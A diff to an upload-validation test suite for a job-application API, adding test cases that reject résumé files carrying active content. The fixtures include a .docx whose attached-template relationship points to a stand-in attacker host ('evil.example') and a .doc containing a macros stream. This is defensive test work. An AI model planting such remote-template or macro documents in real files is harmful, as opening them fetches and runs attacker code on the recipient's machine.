@@ -9,7 +9,7 @@ import { handlerOverRecordingTransport, readJson } from './__fixtures__/handler-
 import { header, unwrapped } from './__fixtures__/raw-mail';
 import { useSmtpTestServer, type ReceivedMail } from './__fixtures__/smtp-test-server';
 import { oleWith } from './__fixtures__/ole';
-import { docxWith } from './__fixtures__/zip';
+import { docxWith, relationships } from './__fixtures__/zip';
 
 const URL_ = 'http://localhost/api/application';
 
@@ -37,6 +37,18 @@ const PDF = encode('%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n');
 const DOC = oleWith(['WordDocument', '1Table']);
 const DOCX = docxWith();
 const EXE = bytes('MZ', [0x90, 0x00, 0x03, 0x00], 'This program cannot be run in DOS mode.');
+/** Active content a recruiter would run by opening the file (issue 30). */
+const DOCX_REMOTE_TEMPLATE = docxWith([
+  {
+    name: 'word/_rels/settings.xml.rels',
+    data: relationships(
+      'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate',
+      'http://evil.example/t.dotm',
+      'External',
+    ),
+  },
+]);
+const DOC_WITH_MACROS = oleWith(['WordDocument'], ['Macros']);
 
 /** A PDF of exactly `size` bytes (its header, zeros, its end marker). */
 function pdfOfSize(size: number): Uint8Array<ArrayBuffer> {
@@ -263,6 +275,12 @@ describe('résumé checks', () => {
     ['a .doc whose bytes are a .docx', file(DOCX, 'cv.doc'), 'candidateApplication.resumeContent'],
     ['a text file named cv.pdf', file(encode('Giulia Rossi, CV'), 'cv.pdf'), 'candidateApplication.resumeContent'],
     ['an empty cv.pdf', file(new Uint8Array(), 'cv.pdf'), 'candidateApplication.resumeEmpty'],
+    [
+      'a .docx with a remote template (F9)',
+      file(DOCX_REMOTE_TEMPLATE, 'cv.docx'),
+      'candidateApplication.resumeContent',
+    ],
+    ['a .doc with macros (F10)', file(DOC_WITH_MACROS, 'cv.doc'), 'candidateApplication.resumeContent'],
   ])('answers 400 to %s and sends nothing', async (_label, resume, key) => {
     const { response, body, mails } = await handle(post(formData(VALID, resume)));
 
